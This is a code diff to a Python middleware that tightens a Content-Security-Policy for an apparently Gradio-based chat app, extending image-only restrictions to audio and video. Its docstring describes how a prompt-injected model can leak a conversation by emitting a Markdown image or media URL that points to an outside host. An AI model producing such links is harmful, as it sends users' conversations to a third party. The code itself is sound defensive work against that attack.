@@ -1,8 +1,10 @@
-"""A Content-Security-Policy that lets the page load images only from the app itself.
+"""A Content-Security-Policy that lets the page load images, audio and video only from the app itself.
 
-An answer (or a prompt echoed back) may hold `![](https://elsewhere/x.png?d=...)`; with a
-prompt-injected model that URL can carry the conversation out. Whatever renders the Markdown (the
-chat, the recipe card, a hand-off article), the browser then refuses the request.
+An answer (or a prompt echoed back, or an imported chat) may hold `![](https://elsewhere/x.png?d=...)`;
+with a prompt-injected model that URL can carry the conversation out. Whatever renders the Markdown (the
+chat, the recipe card, a hand-off article), the browser then refuses the request. Gradio's sanitizer keeps
+`<video src>` and `<audio src>` in a message, and the browser fetches them at once: `media-src` refuses
+those too (iframes, objects, embeds and stylesheets it removes).
 """
 
 from __future__ import annotations
@@ -12,10 +14,13 @@ from collections.abc import Sequence
 from starlette.datastructures import MutableHeaders
 from starlette.types import ASGIApp, Message, Receive, Scope, Send
 
+MEDIA_SOURCES = "media-src 'self' data: blob:"
+
 
 def image_sources(allowed_hosts: Sequence[str] = ()) -> str:
-    """`img-src` for this app: itself, inline `data:` and `blob:` images, and the operator's hosts."""
-    return " ".join(["img-src 'self' data: blob:", *allowed_hosts])
+    """The policy for this app: images from itself, inline `data:` and `blob:` ones and the operator's hosts;
+    audio and video from itself only."""
+    return " ".join(["img-src 'self' data: blob:", *allowed_hosts]) + f"; {MEDIA_SOURCES}"
 
 
 class ImagesFromHereOnly:
